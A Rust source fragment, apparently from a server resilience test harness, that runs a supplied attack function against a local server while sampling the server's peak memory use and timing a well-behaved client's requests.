pub fn run_watched(pid: u32, addr: SocketAddr, attack: Attack, budget: &Budget) -> Watched {
    run_watched_with(pid, addr, attack, budget, move |stop, first| {
        well_behaved_client(addr, stop, Some(first))
    })
}

/// [`run_watched`] with another well-behaved client (e.g. one speaking TLS): `good` runs on
/// its own thread until the flag is set, signals its first answer, and returns each
/// request's latency (None: failed).
pub fn run_watched_with(
    pid: u32,
    addr: SocketAddr,
    attack: Attack,
    budget: &Budget,
    good: impl FnOnce(&std::sync::atomic::AtomicBool, std::sync::mpsc::Sender<()>) -> Vec<Option<Duration>>
        + Send
        + 'static,
) -> Watched {
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    use std::sync::Arc;
    let rss_before_kib = rss_kib(pid).unwrap_or(0);
    let stop = Arc::new(AtomicBool::new(false));
    let peak = Arc::new(AtomicU64::new(rss_before_kib));
    let sampler = {
        let (stop, peak) = (stop.clone(), peak.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                if let Some(r) = rss_kib(pid) {
                    peak.fetch_max(r, Ordering::Relaxed);
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        })
    };
    let (first_tx, first_rx) = std::sync::mpsc::channel();
    let good = {
        let stop = stop.clone();
        std::thread::spawn(move || good(&stop, first_tx))
    };
    // The well-behaved client is connected and answered before the attack starts.
    let _ = first_rx.recv_timeout(Duration::from_secs(10));
    let report = attack(addr, budget);
    // Let the server settle, then stop the helpers.
    std::thread::sleep(Duration::from_millis(200));
    stop.store(true, Ordering::Relaxed);
    let _ = sampler.join();
    let good_client = good.join().unwrap_or_default();
    Watched {
        report,
        rss_before_kib,
        rss_peak_kib: peak.load(Ordering::Relaxed),
        good_client,
    }
}
